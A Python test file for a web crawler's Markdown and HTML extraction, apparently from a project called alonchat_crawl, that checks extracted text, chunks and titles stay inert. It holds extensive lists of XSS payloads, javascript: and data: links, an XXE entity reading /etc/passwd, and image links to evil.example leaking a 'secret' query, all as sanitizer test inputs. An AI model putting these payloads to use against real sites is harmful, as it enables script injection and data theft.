"""No page, file or title leaves anything active behind, whole or cut into chunks, whoever renders it."""

from html import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alonchat_crawl.extract.chunks.chunking import chunk
from alonchat_crawl.extract.document import extract_markdown, extract_plain
from alonchat_crawl.extract.html.to_markdown import extract_html
from alonchat_crawl.extract.markdown.titles import inert_line
from alonchat_crawl.extract.markdown.writer import write
from alonchat_crawl.extract.safe_markdown import Extracted
from tests.support.rendering import active, active_html
from tests.unit.extract.html.test_to_markdown import NASTY

URL = "http://example.com/docs/"
FILLER = "It is a sentence about the product and how people use it every day. "

ELEMENTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script\x0b>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="x`><script>alert(1)</script>"`>',
    "<image/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=X></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<base href=javascript:/a/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style=behavior:url(x.htc)>x</div>",
    "<p onclick=alert(1)>x</p>",
    "<a onmouseover=alert(1) href=#>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "</p><script>alert(1)</script><p>",
    "</title><script>alert(1)</script>",
    "<x id=cookie><x id=cookie name=x>",
    "<portal src=//evil.example>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u200bscript>alert(1)</script>",
    "<s\u00adcript>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]
MARKDOWN = [
    "![x](http://evil.example/?q=secret)",
    "![x][r]\n\n[r]: http://evil.example/i.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](  javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]: javascript:alert(1)\n\n[r]",
    "[r]:\njavascript:alert(1)\n\n[r][]",
    "> [r]: javascript:alert(1)\n\n[r]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "`<img src=x onerror=alert(1)>",
    "``<img src=x onerror=alert(1)>`",
    "`a` <img src=x onerror=alert(1)> `b`",
    "http://evil.example/`<img src=x onerror=alert(1)>`",
    "www.evil.example/`<img src=x onerror=alert(1)>`",
    "me@evil.example`<img src=x onerror=alert(1)>`",
    "| a ` b | c |\n|---|---|\n| `<img src=x onerror=alert(1)> | d |",
    "\\`<img src=x onerror=alert(1)>\\`",
    "\\\\<img src=x onerror=alert(1)>",
    "```\n```<img src=x onerror=alert(1)>",
    "~~~ `\n~~~\n<img src=x onerror=alert(1)>",
    "- ```\n<img src=x onerror=alert(1)>\n  ```",
    "    <img src=x onerror=alert(1)>",
    "x\n===\n<img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<div>\n\n*x*\n\n</div>",
    "* a\n\n      <img src=x onerror=alert(1)>",
]
LINKS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:http://x/1",
    "about:blank",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:http://x!/",
    "tel:123",
    "intent://x#Intent;end",
    "http://user:secret@evil.example/",
    'http://x/"onmouseover=alert(1)//',
    "http://x/'onmouseover=alert(1)//",
    "http://x/><script>alert(1)</script>",
    "http://x/)![y](http://evil.example/i.png",
    "http://x/](javascript:alert(1)",
    "mailto:a@b.example?body=<script>",
    "mailto:a@b.example)(javascript:alert(1)",
]  # fmt: skip


def everything(extracted: Extracted) -> list[str]:
    """Return what is active in all that is stored of a page: its text, each chunk of it, and every line."""
    found = active(extracted.markdown)
    lines = [extracted.title, extracted.metadata.description]
    for capacity in (2048, 120):
        for each in chunk(extracted.markdown, extracted.title, capacity, 20):
            found += active(each.content)
            lines += each.heading_path
    for line in filter(None, lines):
        found += active_html(line) + active(line)
    return found


def as_html(payload: str) -> str:
    """Put a payload into a page as what it is."""
    return f"<title>T</title><main><h1>H</h1><p>{FILLER}</p>{payload}<p>{FILLER}</p></main>"


def as_text(payload: str) -> str:
    """Put a payload into a page as the text that readers see, wherever text can be."""
    text = escape(payload)
    return (
        f"<html><head><title>{text}</title><meta name=description content='{text}'></head><body><main>"
        f"<h1>{text}</h1><p>{FILLER}</p><p>{text}</p><h2>{text}</h2><ul><li>{text}</ul>"
        f"<table><tr><th>{text}<tr><td>{text}</table><blockquote>{text}</blockquote><dl><dt>{text}<dd>{text}</dl>"
        f"<p><b>{text}</b> <a href=/x>{text}</a> <code>{text}</code></p><pre>{text}</pre></main></html>"
    )


def as_markdown(payload: str) -> str:
    """Put a payload into a Markdown document."""
    blocks = (
        f"# H {payload}",
        FILLER,
        payload,
        f"- {payload}",
        f"`{payload}`",
        f"> {payload}",
        f"[a]({payload})",
    )
    return "\n\n".join(blocks)


@pytest.mark.parametrize("payload", [*ELEMENTS, *MARKDOWN])
def test_of_a_page(payload: str) -> None:
    """Neither as markup nor as text that shows it does a payload become active."""
    assert not everything(extract_html(as_html(payload), URL))
    assert not everything(extract_html(as_text(payload), URL))


@pytest.mark.parametrize("payload", [*ELEMENTS, *MARKDOWN])
def test_of_a_document(payload: str) -> None:
    """The same holds for a Markdown document and a plain text."""
    assert not everything(extract_markdown(as_markdown(payload), URL))
    assert not everything(extract_plain(f"{FILLER}\n{payload}\n\n    {payload}\n* {payload}\n`{payload}`\n"))


@pytest.mark.parametrize("target", LINKS)
def test_of_links(target: str) -> None:
    """Only http, https and mailto links are left, and each ends where its address does."""
    value = escape(target)
    page = f'<main><p>{FILLER}<a href="{value}">x</a> <area href="{value}">{FILLER}</p></main>'
    assert not everything(extract_html(page, URL))
    assert not everything(
        extract_html(f'<base href="{value}"><main><p>{FILLER}<a href=y>x</a></p></main>', URL)
    )
    assert not everything(
        extract_markdown(f"{FILLER} [x]({target}) [y][r] <{target}>\n\n[r]: {target}\n", URL)
    )


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("How to use <script> tags", "How to use ‹script> tags"),
        ("a < b and c <3 d", "a < b and c <3 d"),
        ("<!-- x --></title>", "‹!-- x -->‹/title>"),
        ("Look ![here](http://x)!", "Look ! [here］(http://x)!"),
        ("[Solved] It works (really)", "[Solved] It works (really)"),
    ],
)
def test_lines(line: str, expected: str) -> None:
    """A title keeps its words; a bracket that would open a tag is replaced by one that looks like it."""
    assert inert_line(line) == expected


@pytest.mark.parametrize(
    "text",
    [
        'Use `[b]` and `i`, see `a > b` and `print("x")`.',
        "Text.\n\n```html\n<img src=x onerror=alert(1)>\n```\n\nMore <http://example.com/> here.",
        "1. Step\n\n```html\n<b>x</b>\n```\n\n2. Step",
        "A [link](https://example.com/a) and `code` and 1 < 2.",
    ],
)
def test_code_stays(text: str) -> None:
    """Code that every renderer takes for code is left as it is; an address loses its brackets at most."""
    assert write(text).markdown == text.replace("<http://example.com/>", "http://example.com/")


@given(NASTY, st.integers(0, 300), st.integers(0, 300))
def test_of_any_cut(text: str, start: int, end: int) -> None:
    """What is cut out of an inert text, and made inert again, is inert."""
    assert not active(write(write(text).markdown[min(start, end) : max(start, end)]).markdown)


@given(NASTY)
def test_twice(text: str) -> None:
    """Making a text inert again changes nothing but what a first change has moved out of code."""
    once = write(text).markdown
    assert not active(once)
    assert not active_html(inert_line(once))
